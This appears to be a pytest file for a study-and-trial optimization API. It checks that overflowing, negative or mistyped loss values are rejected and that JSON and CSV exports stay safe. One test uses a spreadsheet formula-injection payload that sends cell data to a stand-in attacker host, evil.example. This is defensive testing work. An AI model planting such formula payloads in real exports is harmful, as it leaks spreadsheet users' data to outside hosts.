"""Attacks with result values: each is refused (422 naming the field) before anything is stored,
and what is stored never breaks an export."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import create_engine, update

from service.db import Trial
from tests.helpers import DOMAINS, known_losses, study_body


def _asked(client, **study):
    sid = client.post("/api/v1/studies", json={**study_body(**study), "start": True}).json()["id"]
    return sid, client.post(f"/api/v1/studies/{sid}/ask", json={"n": 1}).json()["trials"][0]


def _report(client, t, losses, **extra):
    return client.post(f"/api/v1/trials/{t['id']}/result", json={"losses": losses, "lease_id": t["lease_id"], **extra})


def _msg(r) -> str:
    assert r.status_code == 422, r.text
    return r.json()["detail"][0]["msg"]


def test_finite_losses_whose_objective_overflows_are_refused(client):
    """The attack: three losses of 1.7e308 (each finite) made the mean Infinity; the study failed
    ("Input data contains NaN") and export.json stopped after '['."""
    sid, t = _asked(client)
    huge = {d: 1.7e308 for d in DOMAINS}
    assert _msg(_report(client, t, huge)).startswith("losses.")
    assert client.get(f"/api/v1/trials/{t['id']}").json()["state"] == "leased"
    assert _report(client, t, known_losses(t["mixture"])).status_code == 200


def test_weighted_objective_cannot_overflow(client):
    """The attack: weighted_loss weights of 1e308 turned normal losses into an Infinity objective."""
    r = client.post("/api/v1/studies", json=study_body(objective={"kind": "weighted_loss",
                                                                    "weights": {"web": 1e308, "code": 1.0}}))
    assert _msg(r).startswith("objective.weights.web")


def test_metric_objective_must_stay_in_range(client):
    sid, t = _asked(client, objective={"kind": "metric", "name": "acc", "direction": "maximize"})
    r = _report(client, t, known_losses(t["mixture"]), metrics={"acc": 1e300})
    assert _msg(r).startswith("metrics.acc")


@pytest.mark.parametrize("value, why", [(-0.5, "greater than or equal"), ("1.0", "valid number"),
                                        (True, "valid number"), (1e7, "less than or equal")])
def test_losses_are_strict_non_negative_numbers(client, value, why):
    """The attack: negative losses, "1.0" strings and booleans were coerced into losses."""
    sid, t = _asked(client)
    losses = {**known_losses(t["mixture"]), "web": value}
    msg = _msg(_report(client, t, losses))
    assert msg.startswith("losses.web") and why in msg
    assert _report(client, t, {**losses, "web": 2}).status_code == 200  # a JSON integer is a number


def test_exports_survive_stored_non_finite_values_and_csv_cells_cannot_be_formulas(client, db_url):
    """Rows stored before these checks (an Infinity objective) must not break export.json, and a
    failure reason of =HYPERLINK(...) must reach a spreadsheet as text."""
    sid, t = _asked(client, parallelism=2)
    other = client.post(f"/api/v1/studies/{sid}/ask", json={"n": 1}).json()["trials"][0]
    assert _report(client, t, known_losses(t["mixture"])).status_code == 200
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    r = client.post(f"/api/v1/trials/{other['id']}/fail", json={"reason": formula, "lease_id": other["lease_id"]})
    assert r.status_code == 200
    engine = create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(update(Trial).where(Trial.id == t["id"]).values(objective=float("inf"), predicted=float("nan")))
    engine.dispose()
    rows = json.loads(client.get(f"/dashboard/api/studies/{sid}/export.json").text)
    done = next(r for r in rows if r["id"] == t["id"])
    assert done["objective"] is None and done["predicted"] is None
    table = list(csv.DictReader(io.StringIO(client.get(f"/dashboard/api/studies/{sid}/export.csv").text)))
    failed = next(r for r in table if int(r["id"]) == other["id"])
    assert failed["failure_reason"] == "'" + formula
